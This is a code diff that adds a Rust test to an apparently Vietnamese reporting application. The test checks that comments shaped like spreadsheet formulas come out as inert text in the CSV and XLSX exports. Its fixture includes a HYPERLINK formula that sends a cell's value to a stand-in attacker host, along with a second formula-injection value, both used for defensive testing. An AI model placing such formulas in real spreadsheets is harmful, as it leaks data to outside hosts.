@@ -121,3 +121,34 @@ async fn the_dashboard_reminds_of_the_calendar_and_leads_to_the_report(db: TestD
     }
 }
 on_both_backends!(the_dashboard_reminds_of_the_calendar_and_leads_to_the_report);
+
+async fn a_comment_that_is_a_formula_is_never_run_by_a_spreadsheet(db: TestDb) {
+    let world = world(db).await;
+    let password = world.account("lanhdao.a", Role::Leader, Some(world.commune.id), None).await;
+    let leader = world.login_as("lanhdao.a", &password).await;
+    let formula = r#"=HYPERLINK("http://ke-gian.example/?"&A1,"xem")"#;
+    rate(&world, &world.official_code, "1", formula).await;
+    rate(&world, &world.official_code, "2", "-1+1 @ketqua").await;
+    count_all(world.store()).await;
+    let query = format!("unit={}&period={}", world.commune.id, this_quarter());
+
+    let csv = world.get(&format!("/reports/csv?{query}"), Some(&leader)).await;
+    let mut reader = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(&csv.bytes[3..]);
+    let fields: Vec<String> =
+        reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+    assert!(fields.iter().any(|f| f == &format!("'{formula}")), "the comment is kept, as text");
+    assert!(fields.iter().any(|f| f == "'-1+1 @ketqua"));
+    let runnable: Vec<_> = fields.iter().filter(|f| f.starts_with(['=', '+', '-', '@', '\t', '\r'])).collect();
+    assert!(runnable.is_empty(), "no cell a spreadsheet would run: {runnable:?}");
+
+    // The workbook writes every text as a text cell: the formula comes back as the very string, with no formula.
+    let workbook = world.get(&format!("/reports/xlsx?{query}"), Some(&leader)).await;
+    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(workbook.bytes)).unwrap();
+    let comments = book.worksheet_range("Ý kiến").unwrap();
+    assert!(comments.rows().flatten().any(|cell| cell == &Data::String(formula.into())), "kept as text");
+    for name in book.sheet_names() {
+        let formulas = book.worksheet_formula(&name).unwrap();
+        assert!(formulas.used_cells().next().is_none(), "sheet {name} holds a formula");
+    }
+}
+on_both_backends!(a_comment_that_is_a_formula_is_never_run_by_a_spreadsheet);
